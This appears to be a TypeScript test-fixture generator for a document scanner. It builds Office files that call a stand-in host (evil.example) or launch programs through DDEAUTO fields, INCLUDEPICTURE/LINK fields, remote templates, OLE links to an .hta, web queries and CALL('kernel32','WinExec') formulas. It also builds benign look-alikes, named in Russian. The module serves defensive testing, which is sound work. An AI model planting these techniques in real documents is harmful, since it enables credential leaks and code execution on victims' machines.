import type { HostileFile, MadeFile } from './make';
import { excelStreams, makeCompound, makeDocx, makeXlsx, record, repack, wordStreams } from './office';

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const field = (instruction: string, inner = '') =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r>${inner}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const header = (inner: string) => `<w:hdr ${W}>${inner}</w:hdr>`;
const DDE = field('DDEAUTO c:\\\\cmd.exe');

type Parts = Record<string, string | Buffer>;
/** Adds parts; those of a list of relationships or types are put before its end. */
const withParts = (file: Buffer, parts: Parts): Buffer =>
  repack(file, (all) => {
    for (const [name, content] of Object.entries(parts)) {
      const old = Buffer.from(all[name] ?? []).toString();
      const isList = old !== '' && typeof content === 'string' && /\.rels$|^\[Content_Types\]/.test(name);
      all[name] = Buffer.from(isList ? old.replace(/(?=<\/(?:Relationships|Types)>)/, content) : (content as string));
    }
  });
const related = (type: string, target: string, more = '') =>
  `<Relationship Id="rIdX" Type="${RELATIONSHIPS}/${type}" Target="${target}"${more}/>`;
const typed = (name: string, type: string) => `<Override PartName="/${name}" ContentType="${type}"/>`;
const chunk = (extension: string, type: string, content: string | Buffer): Parts => ({
  [`word/chunk.${extension}`]: content,
  'word/_rels/document.xml.rels': related('aFChunk', `chunk.${extension}`),
  '[Content_Types].xml': typed(`word/chunk.${extension}`, type),
});

/** The stream that says what an object of OLE is linked to. */
function oleLink(target: string, flags = 1): Buffer {
  const stream = Buffer.alloc(60);
  stream.writeUInt32LE(0x02000001, 0);
  stream.writeUInt32LE(flags, 4);
  return Buffer.concat([stream, Buffer.from(target, 'utf16le')]);
}

/** A document of Word 97 whose text begins so and which names this template ([MS-DOC] SttbfAssoc). */
function oldDoc({ text = '', template = '', ole }: { text?: string | Buffer; template?: string; ole?: Buffer }): Buffer {
  const streams = wordStreams();
  const [main, table] = [streams.WordDocument as Buffer, streams['1Table'] as Buffer];
  Buffer.from(text as string).copy(main, 0x800);
  const texts = ['', template].map((one) => Buffer.concat([Buffer.from([one.length, 0]), Buffer.from(one, 'utf16le')]));
  const list = Buffer.concat([Buffer.from([0xff, 0xff, texts.length, 0, 0, 0]), ...texts]);
  list.copy(table, 1_024);
  main.writeUInt32LE(1_024, 0x19a);
  main.writeUInt32LE(list.length, 0x19e);
  return makeCompound({ ...streams, ...(ole && { 'ObjectPool/_1/\u0001Ole': ole }) });
}

/** A workbook of Excel 97 that is linked to another one ([MS-XLS] SupBook), its place encoded as VirtualPath says. */
const oldBook = (place: string): Buffer =>
  makeCompound(excelStreams([record(0x01ae, Buffer.concat([Buffer.from([1, 0, place.length, 0, 1]), Buffer.from(place, 'utf16le')]))]));

/** Ways beside the lists of relationships by which a document asks another computer or starts a program. */
export async function fetchingFiles(): Promise<HostileFile[]> {
  const [docx, xlsx] = [await makeDocx(), await makeXlsx()];
  const remote = { reason: 'remote' };
  const dde = { reason: 'dde' };
  const docs: [string, Parts, Record<string, string>][] = [
    [
      'a page of the web, inserted whole',
      chunk('htm', 'text/html', '<html><img src="http://evil.example/x.png"></html>'),
      { reason: 'chunk' },
    ],
    ['a web archive, inserted whole', chunk('mht', 'message/rfc822', 'MIME-Version: 1.0\r\n\r\nx'), { reason: 'chunk' }],
    [
      'RTF, inserted whole under the name of a document',
      chunk('docx', 'application/rtf', '{\\rtf1{\\object\\objautlink\\objupdate}}'),
      { reason: 'chunk' },
    ],
    ['a picture by a field, not kept', { 'word/header9.xml': header(field(' INCLUDEPICTURE "http://evil.example/x.png" \\d ')) }, remote],
    [
      'a picture by a field, from a share',
      { 'word/header9.xml': header(field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png"')) },
      remote,
    ],
    ['a text by a field', { 'word/header9.xml': header(field('INCLUDETEXT \\\\\\\\evil.example\\\\share\\\\x.docx')) }, remote],
    ['an object by a field', { 'word/header9.xml': header(field('LINK Word.Document.8 "http://evil.example/x.docx" "" \\a')) }, remote],
    ['a command whose name another field makes', { 'word/header9.xml': header(field(' ', field('QUOTE 68 68 69'))) }, dde],
    ['a command whose name another field ends', { 'word/header9.xml': header(field('DD', field('QUOTE 69'))) }, dde],
    [
      'a part called a drawing by its name',
      {
        'word/header9.vml': header(DDE),
        '[Content_Types].xml': typed('word/header9.vml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml'),
      },
      dde,
    ],
    [
      'a part called a drawing by its type',
      {
        'word/header9.xml': header(DDE),
        '[Content_Types].xml': typed('word/header9.xml', 'application/vnd.openxmlformats-officedocument.vmlDrawing'),
      },
      dde,
    ],
    [
      'a part that claims to be no XML',
      { 'word/header9.dat': header(DDE), '[Content_Types].xml': typed('word/header9.dat', 'application/octet-stream') },
      dde,
    ],
    ['a part in UTF-16 that claims to be no XML', { 'word/header9.dat': Buffer.from(`\ufeff${header(DDE)}`, 'utf16le') }, dde],
    [
      'links listed under a name with the other slash',
      {
        'word\\_rels\\header9.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${related('hyperlink', 'http://evil.example/x.png', ' TargetMode="External"')}</Relationships>`,
        'word/header9.xml': `<w:hdr ${W} xmlns:r="${RELATIONSHIPS}" xmlns:a="a"><a:blip r:link="rIdX"/></w:hdr>`,
      },
      remote,
    ],
    [
      'a picture of VML by its address',
      { 'word/header9.xml': header('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>') },
      remote,
    ],
    [
      'the database of a letter to many',
      {
        'word/settings.xml': `<w:settings ${W}><w:mailMerge><w:connectString w:val="Provider=ACE;Data Source=\\\\evil.example\\s\\x.mdb"/></w:mailMerge></w:settings>`,
      },
      remote,
    ],
    [
      'a browser as a control',
      { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="a" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>' },
      {},
    ],
    [
      'an object linked to the web',
      { 'word/embeddings/oleObject1.bin': makeCompound({ '\u0001Ole': oleLink('http://evil.example/x.hta') }) },
      remote,
    ],
    [
      'an object linked to a share',
      { 'word/embeddings/oleObject1.bin': makeCompound({ '\u0001Ole': oleLink('\\\\evil.example\\share\\x.docx') }) },
      remote,
    ],
  ];
  const books: [string, string, Record<string, string>][] = [
    [
      'a query of the web',
      `<connections ${S}><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example/x"/></connection></connections>`,
      remote,
    ],
    [
      'a database on a share',
      `<connections ${S}><connection id="1"><dbPr connection="Provider=ACE;Data Source=\\\\evil.example\\x"/></connection></connections>`,
      remote,
    ],
    ['a connection kept on a share', `<connections ${S}><connection id="1" odcFile="\\\\evil.example\\x.odc"/></connections>`, remote],
    ...['WEBSERVICE("http://evil.example/"&amp;A1)', '_xlfn.WEBSERVICE(A1)', '_xlfn.IMAGE("https://evil.example/x.png")'].map(
      (formula): [string, string, Record<string, string>] => [formula, `<worksheet ${S}><f>${formula}</f></worksheet>`, remote],
    ),
    ...['RTD("x","host","y")', 'CALL("kernel32","WinExec","JC","calc")', 'REGISTER.ID("a","b")'].map(
      (formula): [string, string, Record<string, string>] => [formula, `<worksheet ${S}><f>${formula}</f></worksheet>`, dde],
    ),
  ];
  const old: [string, Buffer, Record<string, string>][] = [
    ['DDE in a .doc, one byte a letter', oldDoc({ text: '\u0013DDEAUTO c:\\cmd.exe\u0014x\u0015' }), dde],
    ['DDE in a .doc, two bytes a letter', oldDoc({ text: Buffer.from('\u0013 dde cmd\u0014x\u0015', 'utf16le') }), dde],
    ['a template of a .doc in the web', oldDoc({ template: 'http://evil.example/t.dot' }), { ...remote, link: 'template' }],
    ['a template of a .doc on a share', oldDoc({ template: '\\\\evil.example\\t.dot' }), { ...remote, link: 'template' }],
    ['an object of a .doc linked to the web', oldDoc({ ole: oleLink('http://evil.example/x.hta') }), remote],
  ];
  const oldBooks: [string, Buffer, Record<string, string>][] = [
    ['an .xls linked to a program', oldBook('cmd\u0003/c calc'), dde],
    ['an .xls linked to a share', oldBook('\u0001\u0001@evil.example\u0003share\u00031.xls'), remote],
    ['an .xls linked to the web', oldBook('\u0001\u0005\u0019http://evil.example/1.xls'), remote],
  ];
  const all: [string, MadeFile, Record<string, string>][] = [
    ...docs.map(([trick, parts, params]): [string, MadeFile, Record<string, string>] => [
      trick,
      { name: 'План.docx', bytes: withParts(docx, parts) },
      params,
    ]),
    ...books.map(([trick, part, params]): [string, MadeFile, Record<string, string>] => [
      trick,
      { name: 'Журнал.xlsx', bytes: withParts(xlsx, { 'xl/part9.xml': part }) },
      params,
    ]),
    ...old.map(([trick, bytes, params]): [string, MadeFile, Record<string, string>] => [trick, { name: 'План.doc', bytes }, params]),
    ...oldBooks.map(([trick, bytes, params]): [string, MadeFile, Record<string, string>] => [trick, { name: 'Журнал.xls', bytes }, params]),
  ];
  return all.map(([trick, file, params]) => ({ ...file, trick, params, code: 'FILE_HAS_ACTIVE_CONTENT' }));
}

/** What looks like it and asks nobody. */
export async function selfContainedFiles(): Promise<MadeFile[]> {
  const [docx, xlsx] = [await makeDocx(), await makeXlsx()];
  const docs: [string, Parts][] = [
    [
      'картинка, вставленная со страницы',
      { 'word/header9.xml': header(field(' INCLUDEPICTURE "https://school.example/1.jpg" \\* MERGEFORMATINET ')) },
    ],
    ['картинка со своего диска', { 'word/header9.xml': header(field(' INCLUDEPICTURE "C:\\\\Users\\\\1.jpg" \\d \\* MERGEFORMAT ')) }],
    ['таблица со своего диска', { 'word/header9.xml': header(field(' LINK Excel.Sheet.12 "C:\\\\Мои документы\\\\1.xlsx" "" \\a \\p ')) }],
    ['поле в поле', { 'word/header9.xml': header(field('IF ', field('PAGE'))) }],
    [
      'объект, связанный со своим диском',
      { 'word/embeddings/oleObject1.bin': makeCompound({ '\u0001Ole': oleLink('C:\\Мои документы\\1.xlsx') }) },
    ],
    [
      'вложенный объект, который помнит адрес',
      { 'word/embeddings/oleObject1.bin': makeCompound({ '\u0001Ole': oleLink('http://school.example', 0) }) },
    ],
    [
      'поле с оглавлением',
      {
        'word/header9.xml': header(
          `${field('TOC ').replace('<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>', `<w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>${field(' ', '')}${field('PAGEREF a')}<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)}`,
        ),
      },
    ],
    ['поле формы', { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="a" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>' }],
    ['данные, которые только похожи', { 'word/fonts/font1.odttf': '<br>это не XML' }],
  ];
  const books: [string, string][] = [
    [
      'запрос к своей книге',
      `<connections ${S}><connection id="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;"/></connection></connections>`,
    ],
    ['ссылка, на которую нажимают', `<worksheet ${S}><f>HYPERLINK("https://school.example","Сайт")</f></worksheet>`],
    ['слово в кавычках', `<worksheet ${S}><f>IF(A1="CALL(1)","WEBSERVICE(2)",RECALL(A2))</f></worksheet>`],
  ];
  return [
    ...docs.map(([name, parts]) => ({ name: `${name}.docx`, bytes: withParts(docx, parts) })),
    ...books.map(([name, part]) => ({ name: `${name}.xlsx`, bytes: withParts(xlsx, { 'xl/part9.xml': part }) })),
    { name: 'Шаблон Normal.doc', bytes: oldDoc({ template: 'C:\\Users\\Анна\\Normal.dot', ole: oleLink('C:\\1.xls') }) },
    { name: 'книга рядом.xls', bytes: oldBook('\u0001\u0001C\u0003Мои документы\u0003[1.xls') },
    { name: 'поле страницы.doc', bytes: oldDoc({ text: '\u0013 DATE \u0014x\u0015' }) },
  ];
}
